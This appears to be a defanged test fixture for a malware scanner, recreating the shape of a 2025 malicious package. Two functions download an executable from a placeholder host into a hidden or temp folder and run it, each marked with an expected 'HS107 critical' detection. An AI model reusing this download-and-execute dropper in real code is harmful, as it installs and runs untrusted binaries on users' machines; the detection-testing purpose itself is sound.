# Shape of "svcmanager" (2025): the download is copied inside a two-item
# `with urlopen(...) as r, open(p, "wb") as o`, the path is a pathlib Path
# under a hidden folder, and it is started as `str(file_path)`. The open
# mode comes from a list. Defanged: example.invalid.
import os
import subprocess
import tempfile
import urllib.request
from pathlib import Path

FILE_URL = "https://example.invalid/releases/download/love/system_service.exe"
PARTS = ["https://example.invalid/cdn/file", "windows.exe", "wb"]


def ensure_and_run_file():
    folder_path = Path.home() / ".hidden_service_folder"
    file_path = folder_path / "system_service.exe"
    folder_path.mkdir(parents=True, exist_ok=True)
    with urllib.request.urlopen(FILE_URL) as response, open(file_path, "wb") as out_file:
        out_file.write(response.read())
    subprocess.Popen([str(file_path)], stdout=subprocess.DEVNULL)  # expect: HS107 critical


def from_list():
    exe_path = os.path.join(tempfile.gettempdir(), PARTS[1])
    response = urllib.request.urlopen(PARTS[0])
    with open(exe_path, PARTS[2]) as f:
        f.write(response.read())
    subprocess.call([exe_path])  # expect: HS107 critical
